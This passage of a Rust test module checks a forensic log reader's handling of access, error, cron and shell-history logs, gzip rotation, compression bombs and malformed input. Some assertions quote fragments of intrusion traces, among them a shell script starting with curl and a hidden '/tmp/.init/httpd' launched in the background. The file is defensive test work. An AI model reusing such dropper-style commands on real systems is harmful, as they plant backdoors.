                    .all(|(i, r)| r.line == i as u64 + 1 && !r.truncated)
            );
            assert_eq!(cov.kind, Some(LogKind::HttpAccess));
            assert!(!cov.compressed);
            assert_eq!(cov.lines, want.len() as u64);
            assert_eq!(cov.first.as_deref(), Some(first), "{path}");
            assert_eq!(cov.last.as_deref(), Some(last), "{path}");
        }
    }

    #[test]
    fn access_coverage_out_of_order_with_offsets() {
        // C.12 out of order: the 2019 lines come last; and a line in +0100 that is earlier
        // in UTC than it reads.
        let data = format!(
            "{}{}\
10.0.0.1 - - [12/Jan/2020:12:00:00 +0100] \"GET / HTTP/1.1\" 200 1 \"-\"\n\
10.0.0.1 - - [no time here] \"GET / HTTP/1.1\" 200 1 \"-\"\n",
            &C12[C12.find("192.168").unwrap()..],
            &C12[..C12.find("192.168").unwrap()],
        );
        let (recs, cov, _) = read("httpaccess.log", data.as_bytes());
        assert_eq!(recs.len(), 9);
        assert_eq!(cov.first.as_deref(), Some("28/Nov/2019:22:28:20 +0000"));
        assert_eq!(cov.first_utc, Some(utc("2019-11-28 22:28:20")));
        // 12:00 +0100 is 11:00 UTC, before 11:26:11.
        assert_eq!(cov.last.as_deref(), Some("12/Jan/2020:11:26:11 +0000"));
        assert_eq!(cov.last_utc, Some(utc("2020-01-12 11:26:11")));
        let (_, cov, _) = read(
            "httpaccess.log",
            b"1.2.3.4 - - [01/Mar/2020:00:30:00 -0130] \"GET / HTTP/1.1\" 200 1\n",
        );
        assert_eq!(cov.first_utc, Some(utc("2020-03-01 02:00:00")));
    }

    #[test]
    fn error_log_has_lines_but_no_times() {
        let (recs, cov, problems) = read("/var/log/httperror.log", C6.as_bytes());
        assert!(problems.is_empty());
        assert_eq!(texts(&recs), C6.lines().collect::<Vec<_>>());
        assert_eq!(cov.kind, Some(LogKind::HttpError));
        assert_eq!(cov.lines, 10);
        assert_eq!(
            (cov.first, cov.last, cov.first_utc, cov.last_utc),
            (None, None, None, None)
        );
        // Apache's own stamp, where there is one.
        let data = b"[Sun Jan 19 23:39:59 2020] [error] [client 1.2.3.4] File does not exist\n\
wget: not found\n\
[Mon Jan 20 01:02:03.123456 2020] [core:error] [pid 1] AH00037\n";
        let (_, cov, _) = read("httperror.log", data);
        assert_eq!(cov.first.as_deref(), Some("Sun Jan 19 23:39:59 2020"));
        assert_eq!(cov.first_utc, Some(utc("2020-01-19 23:39:59")));
        assert_eq!(cov.last.as_deref(), Some("Mon Jan 20 01:02:03.123456 2020"));
        assert_eq!(cov.last_utc, Some(utc("2020-01-20 01:02:03")));
    }

    #[test]
    fn shell_history_vectors() {
        let mtime = Some(utc("2020-01-22 10:00:00"));
        let (recs, cov, problems) = read_with(
            "/var/log/notice.log",
            C7.as_bytes(),
            mtime,
            &Limits::default(),
        );
        assert!(problems.is_empty());
        assert_eq!(
            recs,
            vec![Rec {
                line: 1,
                text: C7.trim_end().into(),
                truncated: false
            }]
        );
        assert_eq!(cov.first.as_deref(), Some("Jan 19 23:39:59"));
        assert_eq!(cov.first_utc, Some(utc("2020-01-19 23:39:59")));

        let (recs, cov, _) = read_with(
            "/var/log/bash.log",
            BSD.as_bytes(),
            mtime,
            &Limits::default(),
        );
        assert_eq!(texts(&recs), vec![BSD.trim_end()]);
        // Hour 24: the hour after 23.
        assert_eq!(cov.first.as_deref(), Some("Jan 19 24:26:52"));
        assert_eq!(cov.first_utc, Some(utc("2020-01-20 00:26:52")));
    }

    #[test]
    fn cron_vector() {
        let mtime = Some(utc("2020-01-20 00:00:00"));
        let (recs, cov, _) = read_with("/var/log/cron", C8.as_bytes(), mtime, &Limits::default());
        assert_eq!(texts(&recs), C8.lines().collect::<Vec<_>>());
        assert_eq!(cov.kind, Some(LogKind::Cron));
        assert_eq!(cov.first.as_deref(), Some("Jan 19 23:00:06"));
        assert_eq!(cov.last.as_deref(), Some("Jan 19 23:01:05"));
        assert_eq!(cov.first_utc, Some(utc("2020-01-19 23:00:06")));
        assert_eq!(cov.last_utc, Some(utc("2020-01-19 23:01:05")));
    }

    #[test]
    fn multi_line_shell_records_are_joined() {
        let mtime = Some(utc("2020-01-25 00:00:00"));
        for path in ["bash.log", "sh.log", "notice.log", "bash.log.0.gz"] {
            let data = if path.ends_with(".gz") {
                gzip(MULTI.as_bytes())
            } else {
                MULTI.as_bytes().to_vec()
            };
            let (recs, cov, problems) = read_with(path, &data, mtime, &Limits::default());
            assert!(problems.is_empty());
            let lines: Vec<&str> = MULTI.lines().collect();
            assert_eq!(
                recs,
                vec![
                    Rec {
                        line: 1,
                        text: lines[0].into(),
                        truncated: false
                    },
                    Rec {
                        line: 2,
                        text: lines[1..7].join("\n"),
                        truncated: false
                    },
                    Rec {
                        line: 8,
                        text: lines[7].into(),
                        truncated: false
                    },
                ],
                "{path}"
            );
            assert!(recs[1].text.contains("\n/tmp/.init/httpd &\nEOF\""));
            assert_eq!(cov.lines, 8);
            assert_eq!(cov.first.as_deref(), Some("Jan  2 00:00:01"));
            assert_eq!(cov.last.as_deref(), Some("Jan 19 23:39:59"));
        }
        // Other kinds keep one record per line.
        let (recs, _, _) = read("cron", MULTI.as_bytes());
        assert_eq!(recs.len(), 8);
        // A rotated file may begin inside a record: those lines make a record of their own.
        let (recs, _, _) = read(
            "bash.log.3",
            &MULTI.as_bytes()[MULTI.find("#!/bin/sh").unwrap()..],
        );
        assert_eq!(recs.len(), 2);
        assert_eq!((recs[0].line, recs[1].line), (1, 6));
        assert!(recs[0].text.starts_with("#!/bin/sh\ncurl"));
    }

    #[test]
    fn shell_record_is_capped() {
        let mut data =
            b"Jan 19 23:39:59 <local7.notice> ns bash[1]: nobody on (null) shell_command=\"x\n"
                .to_vec();
        let filler = vec![b'y'; 1000];
        for _ in 0..1000 {
            data.extend_from_slice(&filler);
            data.push(b'\n');
        }
        data.extend_from_slice(b"Jan 19 23:40:00 next\n");
        let (recs, cov, _) = read("bash.log", &data);
        assert_eq!(recs.len(), 2);
        assert!(recs[0].truncated);
        assert!(recs[0].text.len() <= MAX_RECORD);
        assert_eq!(
            recs[1],
            Rec {
                line: 1002,
                text: "Jan 19 23:40:00 next".into(),
                truncated: false
            }
        );
        assert_eq!(cov.lines, 1002);
    }

    #[test]
    fn syslog_year_from_mtime() {
        // Dec lines in a file last written in January belong to the year before.
        let data = b"Dec 31 23:59:58 <cron.info> ns cron[1]: (root) CMD (newsyslog)\n\
Jan  1 00:00:02 <cron.info> ns cron[2]: (root) CMD (newsyslog)\n\
Jan 3 04:05:06 <cron.info> ns cron[3]: (root) CMD (newsyslog)\n";
        let mtime = Some(utc("2020-01-03 05:00:00"));
        let (_, cov, _) = read_with("cron.0", data, mtime, &Limits::default());
        assert_eq!(cov.first.as_deref(), Some("Dec 31 23:59:58"));
        assert_eq!(cov.first_utc, Some(utc("2019-12-31 23:59:58")));
        assert_eq!(cov.last.as_deref(), Some("Jan 3 04:05:06"));
        assert_eq!(cov.last_utc, Some(utc("2020-01-03 04:05:06")));
        // Without an mtime: no year, so first and last as seen, no UTC.
        let (_, cov, _) = read("cron.0", data);
        assert_eq!(cov.first.as_deref(), Some("Dec 31 23:59:58"));
        assert_eq!(cov.last.as_deref(), Some("Jan 3 04:05:06"));
        assert_eq!((cov.first_utc, cov.last_utc), (None, None));
        // Feb 29 placed in a year without one: kept as written, not as UTC.
        let (_, cov, _) = read_with(
            "messages",
            b"Feb 29 10:00:00 host x\n",
            Some(utc("2021-03-01 00:00:00")),
            &Limits::default(),
        );
        assert_eq!(
            (cov.first.as_deref(), cov.first_utc),
            (Some("Feb 29 10:00:00"), None)
        );
        let (_, cov, _) = read_with(
            "messages",
            b"Feb 29 10:00:00 host x\n",
            Some(utc("2020-03-01 00:00:00")),
            &Limits::default(),
        );
        assert_eq!(cov.first_utc, Some(utc("2020-02-29 10:00:00")));
    }

    #[test]
    fn gzip_rotated_log_is_read_transparently() {
        let gz = gzip(C4.as_bytes());
        let (recs, cov, problems) = read("/var/log/httpaccess.log.1.gz", &gz);
        assert!(problems.is_empty());
        assert!(cov.compressed);
        assert_eq!(texts(&recs), C4.lines().collect::<Vec<_>>());
        assert_eq!(cov.first.as_deref(), Some("13/Jan/2020:07:35:02 +0000"));
        // By content, not name: gzip under a plain name, plain text under a .gz name.
        let (recs, cov, _) = read("httpaccess.log", &gz);
        assert!(cov.compressed);
        assert_eq!(recs.len(), 3);
        let (recs, cov, _) = read("httpaccess.log.2.gz", C4.as_bytes());
        assert!(!cov.compressed);
        assert_eq!(recs.len(), 3);
    }

    #[test]
    fn multi_member_gzip() {
        let mut gz = gzip(C1.as_bytes());
        gz.extend(gzip(C3.as_bytes()));
        gz.extend(gzip(b""));
        gz.extend(gzip(C4.as_bytes()));
        let (recs, cov, problems) = read("httpaccess.log.0.gz", &gz);
        assert!(problems.is_empty(), "{problems:?}");
        let want: Vec<&str> = C1.lines().chain(C3.lines()).chain(C4.lines()).collect();
        assert_eq!(texts(&recs), want);
        assert_eq!(cov.lines, 7);
        assert_eq!(recs.last().unwrap().line, 7);
    }

    #[test]
    fn truncated_gzip_keeps_earlier_lines() {
        let mut plain = String::new();
        for i in 0..20_000 {
            plain.push_str(&format!(
                "10.0.0.{} - - [13/Jan/2020:07:35:02 +0000] \"GET /{i:x}/{} HTTP/1.1\" 404 231\n",
                i % 250,
                i * 7919 % 10007
            ));
        }
        let gz = gzip(plain.as_bytes());
        let cut = &gz[..gz.len() / 2];
        let (recs, cov, problems) = read("httpaccess.log.1.gz", cut);
        assert_eq!(problems.len(), 1, "{problems:?}");
        assert_eq!(problems[0].kind, ProblemKind::Unreadable);
        assert_eq!(problems[0].path, "httpaccess.log.1.gz");
        assert!(recs.len() > 1000, "{}", recs.len());
        // Every whole line handed over is a line of the original, in order; at most the
        // last one is cut short.
        let want: Vec<&str> = plain.lines().collect();
        for (i, r) in recs.iter().enumerate() {
            assert_eq!(r.line, i as u64 + 1);
            if i + 1 < recs.len() {
                assert_eq!(r.text, want[i]);
            } else {
                assert!(want[i].starts_with(&r.text));
            }
        }
        assert_eq!(cov.lines, recs.len() as u64);
        // Just the magic, and a corrupt body.
        let (recs, cov, problems) = read("x.gz", &[0x1f, 0x8b]);
        assert!(recs.is_empty() && cov.compressed);
        assert_eq!(problems[0].kind, ProblemKind::Unreadable);
        let mut bad = gzip(C1.as_bytes());
        let n = bad.len();
        bad[n - 8..].copy_from_slice(&[0; 8]);
        let (recs, _, problems) = read("httpaccess.log.1.gz", &bad);
        assert_eq!(texts(&recs), C1.lines().collect::<Vec<_>>());
        assert_eq!(problems[0].kind, ProblemKind::Unreadable, "bad CRC");
    }

    /// Yields a chunk over and over, like a huge file, without holding it.
    struct Repeat<'a> {
        chunk: &'a [u8],
        at: usize,
        left: u64,
    }

    impl Read for Repeat<'_> {
        fn read(&mut self, buf: &mut [u8]) -> io::Result<usize> {
            if self.left == 0 {
                return Ok(0);
            }
            let n = (self.chunk.len() - self.at).min(buf.len());
            buf[..n].copy_from_slice(&self.chunk[self.at..self.at + n]);
            self.at += n;
            if self.at == self.chunk.len() {
                self.at = 0;
                self.left -= 1;
            }
            Ok(n)
        }
    }

    /// Counts what the reader under test took.
    struct Pulled<R> {
        inner: R,
        pulled: u64,
    }

    impl<R: Read> Read for Pulled<R> {
        fn read(&mut self, buf: &mut [u8]) -> io::Result<usize> {
            let n = self.inner.read(buf)?;
            self.pulled += n as u64;
            Ok(n)
        }
    }

    #[test]
    fn gzip_bomb_stops_early() {
        // 500 MiB of zeros, compressed on the fly as the reader pulls: only what is read
        // is ever made.
        let zeros = io::repeat(0).take(500 << 20);
        let mut bomb = Pulled {
            inner: flate2::read::GzEncoder::new(zeros, Compression::default()),
            pulled: 0,
        };
        let mut handed = 0usize;
        let mut records = 0;
        let (cov, problems) = read_log(
            "httpaccess.log.1.gz",
            Some(LogKind::HttpAccess),
            &mut bomb,
            None,
            &Limits::default(),
            &mut |r| {
                handed += r.text.len();
                records += 1;
            },
        );
        assert!(cov.compressed);
        let kinds: Vec<ProblemKind> = problems.iter().map(|p| p.kind).collect();
        assert!(
            kinds.contains(&ProblemKind::CompressionBomb),
            "{problems:?}"
        );
        // One long line, cut: nothing close to the whole was held or handed over.
        assert_eq!(records, 1);
        assert!(handed <= MAX_LINE);
        // Stopped after a few MiB of output, i.e. a few KiB of input.
        assert!(bomb.pulled < 1 << 20, "pulled {}", bomb.pulled);
    }

    #[test]
    fn per_file_cap_truncates() {
        let limits = Limits {
            max_file: 250,
            ..Limits::default()
        };
        let (recs, _, problems) = read_with("httpaccess.log", C4.as_bytes(), None, &limits);
        assert_eq!(problems.len(), 1);
        assert_eq!(problems[0].kind, ProblemKind::Truncated);
        assert_eq!(recs.len(), 2);
        assert_eq!(recs[0].text, C4.lines().next().unwrap());
        // Exactly at the cap is not truncated.
        let limits = Limits {
            max_file: C4.len() as u64,
            ..Limits::default()
        };
        let (recs, _, problems) = read_with("httpaccess.log", C4.as_bytes(), None, &limits);
        assert!(problems.is_empty());
        assert_eq!(recs.len(), 3);
        // The cap applies after decompression.
        let limits = Limits {
            max_file: 250,
            ..Limits::default()
        };
        let (_, _, problems) =
            read_with("httpaccess.log.1.gz", &gzip(C4.as_bytes()), None, &limits);
        assert_eq!(problems[0].kind, ProblemKind::Truncated);
    }

    #[test]
    fn one_megabyte_line_is_cut_and_the_next_is_fine() {
        let mut data = vec![b'A'; 1 << 20];
        data.extend_from_slice(b"\nnext line\n");
        data.extend(vec![b'B'; MAX_LINE]);
        data.extend_from_slice(b"\n");
        data.extend(vec![b'C'; MAX_LINE + 1]);
        let (recs, cov, problems) = read("httpaccess.log", &data);
        assert_eq!(recs.len(), 4);
        assert_eq!(
            (recs[0].line, recs[0].text.len(), recs[0].truncated),
            (1, MAX_LINE, true)
        );
        assert_eq!(
            recs[1],
            Rec {
                line: 2,
                text: "next line".into(),
                truncated: false
            }
        );
        assert_eq!((recs[2].text.len(), recs[2].truncated), (MAX_LINE, false));
        assert_eq!(
            (recs[3].line, recs[3].text.len(), recs[3].truncated),
            (4, MAX_LINE, true)
        );
        assert_eq!(cov.lines, 4);
        assert_eq!(problems.len(), 1);
        assert_eq!(problems[0].kind, ProblemKind::Truncated);
        assert!(problems[0].detail.contains("2 line(s)") && problems[0].detail.contains("line 1)"));
    }

    #[test]
    fn crlf_and_non_utf8() {
        let data = b"one\r\ntwo\r\n\r\nbad \xff\xfe bytes \xe2\x82\r\nlast\r";
        let (recs, cov, problems) = read("messages", data);
        assert!(problems.is_empty());
        assert_eq!(
            texts(&recs),
            vec![
                "one",
                "two",
                "",
                "bad \u{FFFD}\u{FFFD} bytes \u{FFFD}",
                "last"
            ]
        );
        assert_eq!(cov.lines, 5);
        // A lone \r is not a line end.
        let (recs, _, _) = read("messages", b"a\rb\n");
        assert_eq!(texts(&recs), vec!["a\rb"]);
    }

    #[test]
    fn binary_garbage_does_not_panic() {
        let mut state = 0x9e37_79b9_7f4a_7c15_u64;
        let mut data = Vec::new();
        for _ in 0..300_000 {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            data.push((state >> 24) as u8);
        }
        for path in [
            "bash.log",
            "httpaccess.log",
            "httperror.log",
            "cron",
            "unknown",
        ] {
            let (_, cov, _) = read(path, &data);
            assert!(cov.lines > 0);
            let mut gz = vec![0x1f, 0x8b];
            gz.extend_from_slice(&data);
            let (_, cov, problems) = read(path, &gz);
            assert!(cov.compressed);
            assert_eq!(problems[0].kind, ProblemKind::Unreadable);
        }
        // Timestamp look-alikes cut at every length.
        let stamps = [
            "Jan 19 24:26:52 x",
            "[28/Nov/2019:22:28:20 +0000]",
            "[Sun Jan 19 23:39:59.12 2020] x",
        ];
        for s in stamps {
            for n in 0..=s.len() {
                for kind in [
                    None,
                    Some(LogKind::Bash),
                    Some(LogKind::HttpAccess),
                    Some(LogKind::HttpError),
                ] {
                    let mut r = &s.as_bytes()[..n];
                    read_log("x", kind, &mut r, Some(0), &Limits::default(), &mut |_| {});
                }
            }
        }
        let (recs, cov, problems) = read("empty", b"");
        assert!(recs.is_empty() && problems.is_empty());
        assert_eq!(cov.lines, 0);
    }

    #[test]
    fn read_errors_are_reported() {
        /// Three lines, then an I/O error.
        struct Failing(&'static [u8]);
        impl Read for Failing {
            fn read(&mut self, buf: &mut [u8]) -> io::Result<usize> {
                if self.0.is_empty() {
                    return Err(io::Error::other("disk gone"));
                }
                self.0.read(buf)
            }
        }
        let mut r =
            Failing(b"Jan 19 23:00:06 host a\nJan 19 23:00:07 host b\nJan 19 23:00:08 host c");
        let mut n = 0;
        let (cov, problems) = read_log(
            "cron",
            Some(LogKind::Cron),
            &mut r,
            None,
            &Limits::default(),
            &mut |_| n += 1,
        );
        assert_eq!((n, cov.lines), (3, 3));
        assert_eq!(problems[0].kind, ProblemKind::Unreadable);
        assert!(problems[0].detail.contains("disk gone"));
    }

    /// `cargo test --release -p wachter-triage logs::tests::throughput -- --ignored --nocapture`
    #[test]
    #[ignore]
    fn throughput() {
        let mut block = Vec::new();
        let mut i = 0u64;
        while block.len() < 1 << 20 {
            block.extend_from_slice(format!("10.{}.{}.{} - - [13/Jan/2020:{:02}:35:02 +0000] \"GET /vpn/index.html?x={i} HTTP/1.1\" 200 {} \"-\" \"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36\" \"Time: {} microsecs\"\n", i % 7, i % 251, i % 13, i % 24, i * 31 % 9000, i * 17 % 99999).as_bytes());
            i += 1;
        }
        let mut bash = Vec::new();
        while bash.len() < 1 << 20 {
            bash.extend_from_slice(format!("Jan 19 23:{:02}:59 <local7.notice> ns bash[{i}]: root on /dev/pts/0 shell_command=\"ls -la /var/tmp/{i}\"\n", i % 60).as_bytes());
            i += 1;
        }
        let gz = gzip(&block.repeat(8));
        for (name, chunk, reps, kind) in [
            ("access plain", &block, 1024u64, LogKind::HttpAccess),
            ("bash plain", &bash, 1024, LogKind::Bash),
            ("access gzip", &gz, 128, LogKind::HttpAccess),
        ] {
            let mut r = Repeat {
                chunk,
                at: 0,
                left: reps,
            };
            let mut bytes = 0usize;
            let t = std::time::Instant::now();
            let (cov, problems) = read_log(
                "x",
                Some(kind),
                &mut r,
                Some(1_600_000_000),
                &Limits::default(),
                &mut |r| bytes += r.text.len() + 1,
            );
            let secs = t.elapsed().as_secs_f64();
            assert!(problems.is_empty(), "{problems:?}");
            println!(
                "{name}: {} MB out in {secs:.2} s = {:.0} MB/s ({} lines)",
                bytes / 1_000_000,
                bytes as f64 / 1e6 / secs,
                cov.lines
            );
        }
    }
}
